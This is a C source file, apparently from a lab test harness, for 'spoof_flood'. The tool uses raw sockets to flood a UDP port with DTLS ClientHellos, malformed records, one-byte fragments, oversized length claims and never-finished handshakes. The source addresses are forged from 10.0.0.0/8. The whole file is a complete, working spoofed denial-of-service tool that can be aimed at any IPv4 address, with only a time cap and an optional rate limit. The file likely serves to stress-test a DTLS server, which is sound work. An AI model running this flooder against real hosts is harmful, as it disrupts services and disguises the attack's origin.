/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/*
 * spoof_flood: an attack, as fast as this machine sends, or at a rate: UDP
 * datagrams from source addresses that are not its own. Needs CAP_NET_RAW; never
 * leaves the host if what it sends to is on it.
 *
 * Usage: spoof_flood --to 127.0.0.1:PORT --mode clienthello [--duration S]
 *		[--sources N] [--count N] [--rate N] [--reader PID]
 *
 * Modes: clienthello (whole ones), malformed (lengths and ranges that lie,
 * garbage behind records), fragments (of one byte), claims (messages of 2^24-1
 * bytes), unfinished (handshakes that go on a little and never end).
 * Without --sources each datagram comes from another address and port.
 * --reader pauses while much waits to be read by that process: on a busy machine a
 * flood would otherwise be more than the server can bear, however low its rate.
 *
 * Prints "sent N in S.S s, errors N". Exit status: 0 something was sent.
 */
#include <argp.h>
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "lab_net.h"

#define BATCH 64
#define MAX_PAYLOAD 256
#define MAX_MS 300000
#define MAX_QUEUED 65536	/* bytes, as the kernel counts them: some 80 datagrams */
#define HEADER_LEN (13 + 12)	/* of a record and of a handshake message */
#define HELLO_BODY_LEN 97

enum mode { CLIENTHELLO, MALFORMED, FRAGMENTS, CLAIMS, UNFINISHED, NUM_MODES };
static const char *const mode_names[NUM_MODES] = {
	"clienthello", "malformed", "fragments", "claims", "unfinished"
};

struct options {
	struct lab_addr to;
	int mode;
	uint64_t sources, count, duration_ms, rate, reader;
};

struct packet {
	struct iphdr ip;
	struct udphdr udp;
	uint8_t payload[MAX_PAYLOAD];
};

static uint64_t random_state = 88172645463325252ULL;

static uint64_t random_next(void)
{
	random_state ^= random_state << 13;
	random_state ^= random_state >> 7;
	random_state ^= random_state << 17;
	return random_state;
}

static void put24(uint8_t *p, uint32_t value)
{
	p[0] = value >> 16;
	p[1] = value >> 8;
	p[2] = value;
}

/* RFC 6347 s4.1 and s4.2.2: one record, one fragment. Returns where its body is. */
static uint8_t *put_headers(uint8_t *p, uint8_t type, uint16_t seq, uint32_t len,
			    uint32_t off, uint32_t fragment_len)
{
	memset(p, 0, HEADER_LEN);
	memcpy(p, "\x16\xfe\xfd", 3);
	p[11] = (12 + fragment_len) >> 8;
	p[12] = 12 + fragment_len;
	p[13] = type;
	put24(p + 14, len);
	p[17] = seq >> 8;
	p[18] = seq;
	put24(p + 19, off);
	put24(p + 22, fragment_len);
	return p + HEADER_LEN;
}

/* A ClientHello that a server answers: two suites, curves, algorithms, one name. */
static void put_hello(uint8_t *body)
{
	static const uint8_t rest[HELLO_BODY_LEN - 34] = {
		0, 0, 0, 4, 0xc0, 0x2b, 0xc0, 0x2f, 1, 0, 0, 51,
		0, 0, 0, 13, 0, 11, 0, 0, 8, 'l', 'a', 'b', '.', 't', 'e', 's', 't',
		0, 10, 0, 4, 0, 2, 0, 23, 0, 11, 0, 2, 1, 0,
		0, 13, 0, 8, 0, 6, 4, 3, 8, 4, 4, 1, 0, 23, 0, 0,
	};

	body[0] = 0xfe;
	body[1] = 0xfd;
	for (int i = 0; i < 4; i++) {
		uint64_t value = random_next();

		memcpy(body + 2 + 8 * i, &value, sizeof(value));
	}
	memcpy(body + 34, rest, sizeof(rest));
}

static size_t whole_hello(uint8_t *p, uint16_t seq)
{
	put_hello(put_headers(p, 1, seq, HELLO_BODY_LEN, 0, HELLO_BODY_LEN));
	return HEADER_LEN + HELLO_BODY_LEN;
}

static size_t malformed(uint8_t *p, uint64_t number)
{
	size_t len = whole_hello(p, 0);

	switch (number % 6) {
	case 0: p[11] = 0xff; break;			/* record beyond the end */
	case 1: put24(p + 22, 0xfff); break;		/* fragment beyond its record */
	case 2: put24(p + 19, 0xfffff0); break;		/* range beyond the message */
	case 3: memcpy(p + len, "\x16\xfe\xfd garbage", 11); return len + 11;
	case 4: p[12] = 7; return 20;			/* cut inside the message's header */
	case 5: memcpy(p, "\x15\xfe\xfd\0\0\0\0\0\0\0\0\0\2\2\x28\x16\xfe", 17); return 17;
	}
	return len;
}

/* The next of a source that has sent `turn` others: two hellos, then pieces of a Certificate. */
static size_t unfinished(uint8_t *p, uint64_t turn)
{
	if (turn < 2)
		return whole_hello(p, turn);
	memset(put_headers(p, 11, 2, 4000, turn * 64 % 3900, 64), 0x30, 64);
	return HEADER_LEN + 64;
}

static size_t fill(uint8_t *p, const struct options *opts, uint64_t number)
{
	switch (opts->mode) {
	case CLIENTHELLO:
		return whole_hello(p, 0);
	case MALFORMED:
		return malformed(p, number);
	case FRAGMENTS:
		*put_headers(p, 1, 0, HELLO_BODY_LEN, number % HELLO_BODY_LEN, 1) = number;
		return HEADER_LEN + 1;
	case CLAIMS:
		memset(put_headers(p, number & 1 ? 1 : 11, 0, 0xffffff,
				   number % 2 ? 0 : random_next() % 0xfffff0, 8), 1, 8);
		return HEADER_LEN + 8;
	}
	return unfinished(p, opts->sources ? number / opts->sources % 32 : 0);
}

/* 10.0.0.0/8 and a port from 1024 to 5023, which no test asks for, others for each of the sources. */
static void set_source(struct packet *pkt, const struct options *opts, uint64_t number)
{
	uint64_t which = opts->sources ? (number % opts->sources + 1) * 0x9e3779b97f4a7c15ULL :
					 random_next();

	pkt->ip.saddr = htonl(0x0a000000 | (which >> 40));
	pkt->udp.source = htons(1024 + (which >> 16 & 0xffff) % 4000);
}

static size_t build(struct packet *pkt, const struct options *opts, uint64_t number)
{
	const struct sockaddr_in *to = (const struct sockaddr_in *)&opts->to.ss;
	size_t len = fill(pkt->payload, opts, number);

	pkt->ip = (struct iphdr){ .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP,
		.daddr = to->sin_addr.s_addr };	/* the kernel fills in the rest */
	pkt->udp = (struct udphdr){ .dest = to->sin_port, .len = htons(sizeof(pkt->udp) + len) };
	set_source(pkt, opts, number);
	return sizeof(pkt->ip) + sizeof(pkt->udp) + len;
}

/*
 * Bytes in the receive queue of the reader's socket, which may be in another network
 * namespace. "sl local_address rem_address st tx_queue:rx_queue ...", all hexadecimal.
 */
static unsigned int num_queued(const struct options *opts)
{
	unsigned int want = lab_addr_port(&opts->to), port, bytes, found = 0;
	char path[64], line[512];
	FILE *file;

	snprintf(path, sizeof(path), "/proc/%u/net/udp", (unsigned int)opts->reader);
	file = fopen(path, "re");
	while (file && fgets(line, sizeof(line), file))
		if (sscanf(line, " %*u: %*8x:%x %*x:%*x %*x %*x:%x", &port, &bytes) == 2 && port == want)
			found = bytes;
	if (file)
		fclose(file);
	return found;
}

/* Datagrams that may go out now: at most a batch, what is left, and so many a second. */
static int allowance(const struct options *opts, uint64_t number, uint64_t elapsed_ms)
{
	uint64_t left = opts->count - number, due = opts->rate ? opts->rate * elapsed_ms / 1000 : UINT64_MAX;

	if (due <= number || (opts->reader && num_queued(opts) > MAX_QUEUED))
		return 0;
	if (left > due - number)
		left = due - number;
	return left < BATCH ? left : BATCH;
}

static int flood(int fd, struct options *opts)
{
	static const struct timespec pause = { .tv_nsec = 1000000 };
	static struct packet packets[BATCH];
	struct mmsghdr msgs[BATCH] = {};
	struct iovec iov[BATCH];
	uint64_t begin = lab_now_ms(), sent = 0, errors = 0, number = 0;

	while (!lab_stopped() && lab_now_ms() - begin < opts->duration_ms && number < opts->count) {
		int num = allowance(opts, number, lab_now_ms() - begin), ret;

		if (!num) {
			nanosleep(&pause, NULL);
			continue;
		}
		for (int i = 0; i < num; i++) {
			iov[i] = (struct iovec){ &packets[i], build(&packets[i], opts, number++) };
			msgs[i].msg_hdr = (struct msghdr){ .msg_name = &opts->to.ss,
				.msg_namelen = opts->to.len, .msg_iov = &iov[i], .msg_iovlen = 1 };
		}
		ret = sendmmsg(fd, msgs, num, 0);
		if (ret < num && !errors++)
			fprintf(stderr, "spoof_flood: send: %s\n", strerror(errno));
		sent += ret < 0 ? 0 : ret;
	}
	printf("sent %llu in %.1f s, errors %llu\n", (unsigned long long)sent,
	       (lab_now_ms() - begin) / 1e3, (unsigned long long)errors);
	return !sent;
}

static const struct argp_option option_table[] = {
	{ "to", 't', "ADDR:PORT", 0, "Send there (IPv4)", 0 },
	{ "mode", 'm', "MODE", 0, "clienthello, malformed, fragments, claims or unfinished", 0 },
	{ "sources", 's', "N", 0, "From so many addresses, in turn (default: always others)", 0 },
	{ "count", 'n', "N", 0, "End after so many (default: none)", 0 },
	{ "rate", 'r', "N", 0, "Send so many a second (default: as fast as it can)", 0 },
	{ "reader", 'p', "PID", 0, "Pause while much waits to be read by this process", 0 },
	{ "duration", 'd', "SECONDS", 0, "End after this time (default 3, at most 300)", 0 },
	{ 0 },
};

static error_t parse_option(int key, char *arg, struct argp_state *state)
{
	struct options *opts = state->input;

	switch (key) {
	case 't':
		if (lab_addr_parse(&opts->to, arg) || opts->to.ss.ss_family != AF_INET)
			argp_error(state, "bad address '%s'", arg);
		break;
	case 'm':
		for (opts->mode = 0; opts->mode < NUM_MODES; opts->mode++)
			if (!strcmp(arg, mode_names[opts->mode]))
				return 0;
		argp_error(state, "bad mode '%s'", arg);
		break;
	case 's':
		if (lab_parse_uint(&opts->sources, arg, 1, 1 << 24))
			argp_error(state, "bad number '%s'", arg);
		break;
	case 'n':
		if (lab_parse_uint(&opts->count, arg, 1, 1 << 30))
			argp_error(state, "bad number '%s'", arg);
		break;
	case 'r':
		if (lab_parse_uint(&opts->rate, arg, 1, 1 << 24))
			argp_error(state, "bad number '%s'", arg);
		break;
	case 'p':
		if (lab_parse_uint(&opts->reader, arg, 1, 1 << 22))
			argp_error(state, "bad process '%s'", arg);
		break;
	case 'd':
		if (lab_parse_seconds(&opts->duration_ms, arg) || opts->duration_ms > MAX_MS)
			argp_error(state, "bad duration '%s'", arg);
		break;
	case ARGP_KEY_END:
		if (!opts->to.len)
			argp_error(state, "--to is needed");
		break;
	default: return ARGP_ERR_UNKNOWN;
	}
	return 0;
}

int main(int argc, char **argv)
{
	static const struct argp argp = {
		option_table, parse_option, NULL, "Floods a UDP port from spoofed addresses.", NULL,
		NULL, NULL
	};
	struct options opts = { .duration_ms = 3000, .count = UINT64_MAX };
	int fd;

	argp_err_exit_status = LAB_EXIT_USAGE;
	argp_parse(&argp, argc, argv, 0, NULL, &opts);
	lab_stop_init();
	fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	if (fd < 0) {
		fprintf(stderr, "spoof_flood: raw socket: %s\n", strerror(errno));
		return 1;
	}
	return flood(fd, &opts);
}
